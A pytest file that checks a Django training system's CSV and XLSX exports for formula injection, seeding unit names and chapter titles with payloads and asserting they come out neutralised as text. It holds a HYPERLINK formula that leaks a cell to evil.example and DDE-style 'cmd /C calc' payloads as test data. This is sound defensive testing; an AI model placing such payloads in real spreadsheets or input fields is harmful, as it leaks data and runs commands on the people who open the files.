"""Formula injection in CSV and XLSX exports (review 2026-12, F7).

Unit names come from the roster and chapter titles from editors; both reach the files HR,
managers and DX PROs open in Excel. Each test plants the review's payloads where an attacker
can, downloads the export as its reader would, and checks that no cell starts a formula, that
no XLSX cell is a formula, and that figures stay numbers.
"""

import csv
import datetime as dt
import io
import json
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from content.models import ChapterPage, GuidebookIndexPage, GuidebookPage
from content.services import chapter_read_record
from core.spreadsheets import FORMULA_STARTS, safe_cell
from lms.completion.figures import stats_rebuild
from lms.enrolment.services import assignment_create, assignment_fan_out
from lms.models import Enrollment
from org.models import OrgUnit, RoleGroup
from org.roster.views import SAMPLE_ROWS
from tests.factories import UserFactory
from tests.lms.training import dates, make_city

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"人事")'
PAYLOADS = {
    "jinji_kakari": HYPERLINK,
    "kyuyo_kakari": "+cmd|' /C calc'!A0",
    "dx_kakari": "-2+3+cmd|' /C calc'!A0",
    "madoguchi": "@SUM(1+1)",
}


def _formula_like(value) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_STARTS


@pytest.fixture
def city():
    """The training city with the review's payloads as the names of its four 係, and a
    section coded with a leading zero."""
    city = make_city()
    for key, name in PAYLOADS.items():
        OrgUnit.objects.filter(pk=city["tree"][key].pk).update(name=name)
    OrgUnit.objects.filter(pk=city["tree"]["shimin_ka"].pk).update(code="010000")
    assignment = assignment_create(course=city["course"], enqueue=False, **dates())
    assignment_fan_out(assignment_id=assignment.pk)
    Enrollment.objects.filter(user__unit=city["tree"]["madoguchi"]).update(
        due_on=dt.date(2000, 1, 1)
    )
    stats_rebuild()
    city["hr"] = UserFactory(groups=[RoleGroup.HR])
    return city


def test_dashboard_csv_neutralises_unit_names_in_both_encodings(client, city):
    client.force_login(city["hr"])
    query = f"?course={city['course'].pk}"
    for suffix, encoding in (("", "utf-8-sig"), ("&encoding=cp932", "cp932")):
        response = client.get(reverse("lms:dashboard_csv") + query + suffix)
        rows = list(csv.reader(io.StringIO(response.content.decode(encoding))))
        cells = [cell for row in rows for cell in row]
        assert [c for c in cells if _formula_like(c)] == []
        names = {row[1] for row in rows[1:]}
        assert {"'" + name for name in PAYLOADS.values()} <= names
        # The figures are still plain numbers and the codes keep their leading zeros.
        by_name = {row[1]: row for row in rows[1:]}
        assert by_name["'" + HYPERLINK][4] == "2"
        assert by_name["市民課"][0] == "010000"


def test_dashboard_xlsx_has_no_formula_and_keeps_numbers(client, city):
    client.force_login(city["hr"])
    response = client.get(reverse("lms:dashboard_xlsx") + f"?course={city['course'].pk}")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    assert [c.coordinate for row in rows for c in row if c.data_type == "f"] == []
    assert [c.value for row in rows for c in row if _formula_like(c.value)] == []
    by_name = {row[1].value: row for row in rows[1:]}
    assert by_name["'" + HYPERLINK][4].value == 2  # a number, not text
    assert by_name["'@SUM(1+1)"][8].value == 2  # overdue: still a number
    code = by_name["市民課"][0]
    assert (code.value, code.data_type, code.number_format) == ("010000", "s", "@")


def test_reading_csv_neutralises_chapter_titles_and_unit_names(client):
    """An editor's chapter title reaches HR's spreadsheet: it must arrive as text."""
    city = make_city()
    OrgUnit.objects.filter(pk=city["tree"]["shimin_ka"].pk).update(name=PAYLOADS["madoguchi"])
    index = GuidebookIndexPage.objects.get(slug="guide")
    edition = GuidebookPage(title="概要版", slug="summary-formula", edition="summary")
    index.add_child(instance=edition)
    edition.save_revision().publish()
    title = '=HYPERLINK("http://evil.example/","第1章")'
    chapter = ChapterPage(title=title, slug="c1", body=json.dumps([]))
    edition.add_child(instance=chapter)
    chapter.save_revision().publish()
    reader = city["people"]["madoguchi"][0]
    chapter_read_record(user=reader, page=chapter, seconds_active=90, reached_end=True)
    client.force_login(UserFactory(groups=[RoleGroup.HR]))

    response = client.get("/hr/reading.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [c for row in rows for c in row if _formula_like(c)] == []
    section = next(r for r in rows if r[2] == "'@SUM(1+1)")
    assert section[1] == "'" + title
    assert section[4:9] == ["2", "1", "50", "90", "100"]


def test_the_roster_sample_goes_through_the_same_writer(client, monkeypatch):
    """The sample's rows are ours today; the writer is the same one all the same."""
    line = ["1000003", HYPERLINK, "ミホン", "m@city.example.jp", "総務部", "人事課", "", "", ""]
    monkeypatch.setattr("org.roster.views.SAMPLE_ROWS", [*SAMPLE_ROWS, line])
    client.force_login(UserFactory(groups=[RoleGroup.HR]))
    response = client.get(reverse("org:roster_import_sample"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[:-1] == SAMPLE_ROWS  # nothing in the real sample needs neutralising
    assert rows[-1][1] == "'" + HYPERLINK


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "＝ＳＵＭ（Ａ１）",
        "＋１",
        "－１",
        "＠ＳＵＭ",
        "-",
        "+81-3-1234-5678",
    ],
)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-3, 0, 2.5, None, "010000", "-12", "+3", "12.5", "-0.5", "1e3", "人事課", "", "'=1"],
)
def test_numbers_codes_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value
